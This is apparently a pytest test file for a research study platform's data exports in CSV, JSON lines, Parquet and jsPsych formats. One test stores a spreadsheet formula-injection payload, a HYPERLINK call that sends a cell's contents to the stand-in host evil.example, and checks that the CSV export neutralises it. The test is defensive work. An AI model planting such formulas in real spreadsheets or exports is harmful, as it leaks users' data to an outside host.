"""The files of an export: CSV, JSON lines, Parquet, jsPsych's sessions, and the tables beside the answers."""

import csv
import io
import json
from collections.abc import Callable, Iterator
from typing import Any
from uuid import uuid4

import pytest
from django.utils import timezone
from pyarrow import parquet
from pytest_django import DjangoAssertNumQueries

from studies.exports.columns import COLUMNS, ROW_OF, names
from studies.exports.files import FILES
from studies.exports.writing import ROWS_AT_ONCE, csv_chunks
from studies.models import Assignment, PageRecord, Participation, QualityFinding, Response, Study, User
from studies.services import assignments_draw, enrol
from studies.services.quality import participation_exclude
from studies.tests.test_drawing import answer, draw_all
from studies.tests.test_export_rows import catch_answered, record

NewUser = Callable[..., User]
ATTACK = '=HYPERLINK("http://evil.example/?"&A1;"look")'


def content(study: Study, name: str) -> bytes:
    return b"".join(FILES[name].chunks(study))


def table(study: Study, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content(study, name).decode(), newline="")))


def store(assignment: Assignment, **values: Any) -> None:
    """Store an answer as it may come under any protocol."""
    Response.objects.create(
        assignment=assignment,
        revision=1,
        uuid=uuid4(),
        **{"given": "left", "choice": "original", "rt_ms": 5, **values},
    )
    answered = Assignment.objects.filter(pk=assignment.pk)
    answered.update(state="answered", revision=1, answered_at=timezone.now())


def with_page(participation: Participation, answers: object, **values: Any) -> None:
    PageRecord.objects.create(
        participation=participation,
        uuid=uuid4(),
        answers=answers,
        **{"key": "about-you", "kind": "questionnaire", "shown_seconds": 4.5, **values},
    )


def test_every_column_of_every_table_is_described() -> None:
    assert COLUMNS.keys() == ROW_OF.keys()
    for columns in COLUMNS.values():
        assert all(len(column.description) > 10 and column.description.endswith(".") for column in columns)


def test_no_table_has_two_columns_of_one_name() -> None:
    for columns in COLUMNS.values():
        assert len({column.name for column in columns}) == len(columns)


def test_a_name_means_the_same_in_every_table() -> None:
    meanings = {(column.name, column.description) for columns in COLUMNS.values() for column in columns}
    assert len(meanings) == len({name for name, _ in meanings})


def test_every_level_that_the_database_may_hold_is_described() -> None:
    levels = {column.name: set(column.levels) for columns in COLUMNS.values() for column in columns}
    assert levels["given"] == set(Response.Given.values)
    assert levels["choice"] == set(Response.Choice.values)
    assert levels["kind"] == set(Assignment.Kind.values)
    assert levels["state"] == set(Participation.State.values)
    assert levels["source"] == set(Participation.Source.values) - {"preview"}


@pytest.mark.parametrize("name", ["responses.csv", "revisions.csv", "annotators.csv", "pages.csv", "trials.csv"])
def test_a_csv_has_the_columns_of_its_table(participation: Participation, name: str) -> None:
    draw_all(participation)
    with_page(participation, {"age": 30})
    rows = table(participation.study, name)
    assert rows
    assert tuple(rows[0]) == names(name.removesuffix(".csv"))
    assert all(None not in row and None not in row.values() for row in rows)


@pytest.mark.parametrize("name", [name for name in FILES if name != "responses.jsonl"])
def test_a_study_without_answers_has_every_file(tiny_study: Study, name: str) -> None:
    assert content(tiny_study, name)


def test_without_answers_there_is_no_line_of_json(tiny_study: Study) -> None:
    assert content(tiny_study, "responses.jsonl") == b""


def test_a_csv_without_rows_has_its_header() -> None:
    assert b"".join(csv_chunks("pages", [])).decode().strip() == ",".join(names("pages"))


@pytest.mark.parametrize("number", [1, ROWS_AT_ONCE - 1, ROWS_AT_ONCE, 2 * ROWS_AT_ONCE + 1])
def test_a_csv_has_every_row_whatever_their_number(number: int) -> None:
    row = ("tiny", *[None] * (len(names("trials")) - 1))
    assert b"".join(csv_chunks("trials", [row] * number)).count(b"\n") == number + 1


def test_a_reason_that_is_a_formula_is_a_text_in_csv_and_as_it_was_elsewhere(participation: Participation) -> None:
    [assignment] = assignments_draw(participation=participation, count=1)
    store(assignment, reason=ATTACK, timing={"input": "@" + ATTACK, "more": "=1"})
    study = participation.study
    [row] = table(study, "responses.csv")
    assert row["reason"] == '\'=HYPERLINK("http://evil.example/?"&A1;"look")'
    assert row["input"] == "'@" + ATTACK
    assert row["timing_other"] == '{"more":"=1"}'
    assert json.loads(content(study, "responses.jsonl"))["reason"] == ATTACK
    assert parquet.read_table(io.BytesIO(content(study, "responses.parquet")))["reason"].to_pylist() == [ATTACK]


def test_numbers_stay_numbers(participation: Participation) -> None:
    record(assignments_draw(participation=participation, count=1)[0], timing={"gap_ms": -1.5, "decode_ms": -3})
    [row] = table(participation.study, "responses.csv")
    assert (row["gap_ms"], row["decode_ms"], row["rt_ms"]) == ("-1.5", "-3", "900.0")


def test_truths_are_ones_and_times_are_in_utc(participation: Participation) -> None:
    [assignment] = assignments_draw(participation=participation, count=1)
    answer(assignment)
    [row] = table(participation.study, "responses.csv")
    assert (row["counts"], row["excluded"], row["correct"]) == ("1", "0", "")
    assert row["issued_at"] == assignment.issued_at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def test_parquet_is_typed_and_says_what_its_columns_are(participation: Participation) -> None:
    draw_all(participation)
    found = parquet.read_table(io.BytesIO(content(participation.study, "responses.parquet")))
    assert found.num_rows == 12
    assert found.schema.names == list(names("responses"))
    assert str(found.schema.field("answered_at").type) == "timestamp[us, tz=UTC]"
    assert str(found.schema.field("counts").type) == "bool"
    assert found.schema.field("rt_ms").metadata[b"description"].decode().startswith("From the pictures")


@pytest.mark.parametrize("number", [2**53, 10**17, 2**63, 10**300])
def test_no_number_from_a_browser_breaks_an_export(participation: Participation, number: int) -> None:
    sent = {"decode_ms": number, "showings": number, "viewport": [number, 1], "hidden": -number}
    record(assignments_draw(participation=participation, count=1)[0], timing=sent)
    [row] = parquet.read_table(io.BytesIO(content(participation.study, "responses.parquet"))).to_pylist()
    assert (row["decode_ms"], row["showings"], row["hidden"], row["viewport_width"]) == (None, None, None, None)
    assert json.loads(row["timing_other"]) == sent


def test_json_lines_hold_the_same_as_the_csv(participation: Participation) -> None:
    draw_all(participation)
    lines = [json.loads(line) for line in content(participation.study, "responses.jsonl").splitlines()]
    told = [(row["row_id"], row["choice"]) for row in table(participation.study, "responses.csv")]
    assert [(line["row_id"], line["choice"]) for line in lines] == told


def test_annotators_are_counted(participation: Participation) -> None:
    for assignment in assignments_draw(participation=participation, count=2):
        answer(assignment)
    catch_answered(participation, "original", "original")
    [assignment] = assignments_draw(participation=participation, count=1)
    store(assignment, given="timeout", choice="timeout")
    QualityFinding.objects.create(
        participation=participation, rule="fast_share", value=0.9, limit=0.5, action="exclude"
    )
    participation_exclude(participation, "too fast")
    [row] = table(participation.study, "annotators.csv")
    assert (row["answers_main"], row["answers_catch"], row["catch_correct"], row["timeouts"]) == ("2", "1", "1", "1")
    assert (row["finding_fast_share"], row["finding_focus_lost"], row["breaks_exclude"]) == ("0.9", "", "1")
    assert (row["state"], row["excluded"], row["excluded_because"]) == ("failed_checks", "1", "too fast")


def test_trials_say_how_they_were_judged(tiny_study: Study, new_user: NewUser) -> None:
    first, second = (enrol(study=tiny_study, annotator=new_user(f"user{place}")) for place in range(2))
    for participation in (first, second):
        draw_all(participation)
    participation_exclude(second, "no sense")
    rows = table(tiny_study, "trials.csv")
    assert len(rows) == 12
    assert {int(row["judged_original"]) + int(row["judged_finetuned"]) for row in rows} == {1}
    assert {row["wanted"] for row in rows} == {"2"}


def test_answers_on_pages_are_rows(participation: Participation) -> None:
    answers = {"age": 30, "colours": ["red", "blue"], "agrees": True, "remarks": "-1 point", "scale": {"a": 2}}
    with_page(participation, answers)
    with_page(participation, {}, key="welcome", kind="text")
    rows = table(participation.study, "pages.csv")
    assert [(row["field"], row["part"], row["answer"], row["answer_number"]) for row in rows] == [
        ("age", "", "30", "30.0"),
        ("colours", "1", "red", ""),
        ("colours", "2", "blue", ""),
        ("agrees", "", "true", ""),
        ("remarks", "", "'-1 point", ""),
        ("scale", "", '{"a":2}', ""),
        ("", "", "", ""),
    ]
    assert rows[0]["shown_seconds"] == "4.5"


def test_a_session_of_jspsych_is_in_the_order_of_time(tiny_study: Study, new_user: NewUser) -> None:
    idle, busy, last = (enrol(study=tiny_study, annotator=new_user(f"user{place}")) for place in range(3))
    with_page(busy, {"accepted": True}, key="consent", kind="consent", completed_at=timezone.now())
    for assignment in assignments_draw(participation=busy, count=2):
        record(assignment)
    answer(assignments_draw(participation=last, count=1)[0])
    sessions = json.loads(content(tiny_study, "jspsych.json"))
    assert list(sessions) == [busy.code, last.code]
    trials = sessions[busy.code]
    assert [trial["trial_index"] for trial in trials] == [0, 1, 2]
    assert [trial["trial_type"] for trial in trials] == ["harmony-consent", *["harmony-forced-choice"] * 2]
    assert [trial["time_elapsed"] for trial in trials] == sorted(trial["time_elapsed"] for trial in trials)
    assert trials[0]["response"] == {"accepted": True}
    assert (trials[1]["rt"], trials[1]["response"]) == (900, "left")
    assert trials[1]["stimulus"].endswith(Assignment.objects.filter(participation=busy)[0].trial.pair.image.name)
    assert idle.code not in sessions


@pytest.mark.parametrize(
    ("name", "queries"),
    [
        ("responses.csv", 3),
        ("responses.jsonl", 3),
        ("responses.parquet", 3),
        ("revisions.csv", 3),
        ("annotators.csv", 4),
        ("pages.csv", 2),
        ("trials.csv", 3),
        ("jspsych.json", 5),
        ("psych-ds.zip", 18),
    ],
)
@pytest.mark.parametrize("annotators", [1, 2])
def test_the_number_of_queries_does_not_grow(
    tiny_study: Study,
    new_user: NewUser,
    django_assert_num_queries: DjangoAssertNumQueries,
    name: str,
    queries: int,
    annotators: int,
) -> None:
    for place in range(annotators):
        participation = enrol(study=tiny_study, annotator=new_user(f"user{place}"))
        draw_all(participation)
        with_page(participation, {"age": 30})
    with django_assert_num_queries(queries):
        content(tiny_study, name)


def test_a_csv_is_made_while_it_is_sent(participation: Participation) -> None:
    pieces: Iterator[bytes] = FILES["responses.csv"].chunks(participation.study)
    draw_all(participation)
    assert next(pieces).count(b"\n") == 13
